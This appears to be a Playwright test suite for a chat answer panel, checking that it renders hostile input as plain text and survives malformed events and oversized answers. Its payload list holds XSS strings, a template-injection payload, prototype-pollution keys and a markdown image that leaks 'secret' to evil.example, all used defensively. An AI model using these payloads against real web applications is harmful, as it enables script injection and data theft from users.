"""Whatever an answer holds, it is text: no dialog, no foreign request, no policy violation.

The ``reader`` fixture fails a test on any of these.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Reader
from tests.browser.scripted import (
    Event,
    code,
    code_block,
    finished,
    item,
    paragraph,
    row,
    sentence,
    source,
    sources,
    text,
)

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "![exfiltrate](https://evil.example/pixel.png?q=secret)",
    "[click](javascript:alert(1))",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202eright to left override\u202c and \u2066isolates\u2069",
    "e\u0301\u0301\u0301" * 50,
    "unfinished **bold `code [link](",
    "👩‍👩‍👧‍👦" * 40,
    "A" * 5_000,
    "javascript:alert(1)",
    "%00\x7f\u200b\ufeff",
]


def every_place(payload: str) -> list[Event]:
    """An answer that says the payload wherever an answer can say something."""
    hostile = source(1, payload, payload, "javascript:alert(1)", payload)
    blocks = [
        paragraph(text(payload), code(payload)),
        item(text(payload), depth=1),
        code_block(payload, language=payload),
        row(payload, payload, header=True),
        {"type": "heading", "level": 1, "children": [text(payload)]},
        {"type": "quote", "joins": False, "children": [text(payload)]},
        {"type": payload, "text": payload},
    ]
    sentences = [
        sentence(
            ordinal, block, cites={1: payload}, verdict=payload if ordinal == 6 else "supported"
        )
        for ordinal, block in enumerate(blocks)
    ]
    return [sources(hostile), *sentences, finished(citations=[hostile], text=payload)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_is_shown_as_the_text_it_is(reader: Reader, payload: str) -> None:
    reader.book.plays(*every_place(payload))
    reader.visit().ask(payload[:200])
    expect(reader.turn("answered")).to_be_visible()
    expect(reader.sentences).to_have_count(7)
    shown = reader.panel.locator(".body p code").evaluate("node => node.textContent")
    assert shown == payload
    made = reader.panel.locator(".turns").locator("script, img, iframe, link, style, a[href]")
    expect(made).to_have_count(0)
    reader.panel.locator(".chip").first.click()
    expect(reader.panel.locator(".card")).to_be_visible()


def nested(depth: int) -> Event:
    node = text("deep")
    for _ in range(depth):
        node = {"type": "emphasis", "children": [node]}
    return paragraph(node)


@pytest.mark.parametrize(
    "tree",
    [
        None,
        [],
        "text",
        {},
        {"type": "paragraph"},
        {"type": "paragraph", "children": "none"},
        {"type": "paragraph", "children": [None, 7, {"type": None}]},
        {"type": "row", "cells": None},
        {"type": "item", "depth": "deep", "number": "first", "ordered": True},
        {"type": "heading", "level": -3, "children": []},
        {"type": "constructor"},
        {"type": "__proto__"},
        nested(300),
        {"type": "paragraph", "children": [{"type": "math", "text": "x", "mathml": 7}]},
        {"type": "paragraph", "children": [{"type": "math", "mathml": [["<script>", {}]]}]},
    ],
    ids=range(15),
)
def test_a_malformed_tree_does_not_stop_the_answer(reader: Reader, tree: Any) -> None:
    broken = {**sentence(0, "Broken."), "tree": tree}
    reader.book.plays(broken, sentence(1, paragraph(text("Whole."))), finished())
    reader.visit().ask()
    expect(reader.turn("answered")).to_be_visible()
    expect(reader.sentences.last).to_have_text("Whole.")


@pytest.mark.parametrize(
    "event",
    [
        {"type": "answer.sources", "citations": "none"},
        {"type": "answer.sentence"},
        {"type": "answer.sentence", "ordinal": 0, "citations": [None, "x"], "evidence": [None]},
        {"type": "__proto__"},
        {"type": 7},
        {},
    ],
    ids=range(6),
)
def test_a_malformed_event_does_not_stop_the_answer(reader: Reader, event: Event) -> None:
    reader.book.plays(event, sentence(1, paragraph(text("Whole."))), finished())
    reader.visit().ask()
    expect(reader.turn("answered")).to_be_visible()
    expect(reader.sentences.last).to_have_text("Whole.")


def test_a_huge_answer_stays_inside_its_panel(reader: Reader) -> None:
    cells = [row(*(f"cell {n}" for n in range(12))) for _ in range(200)]
    long_code = code_block("\n".join(f"line {n} " + "x" * 200 for n in range(400)))
    reader.book.plays(
        *(sentence(ordinal, tree) for ordinal, tree in enumerate([*cells, long_code])), finished()
    )
    reader.visit()
    reader.ask()
    expect(reader.turn("answered")).to_be_visible()
    expect(reader.panel.locator("tbody tr")).to_have_count(200)
    panel, pre = reader.panel.bounding_box(), reader.panel.locator("pre").bounding_box()
    assert panel is not None
    assert pre is not None
    assert pre["width"] < panel["width"]  # wide things scroll inside
    assert reader.page.evaluate("document.documentElement.scrollWidth") <= 1280
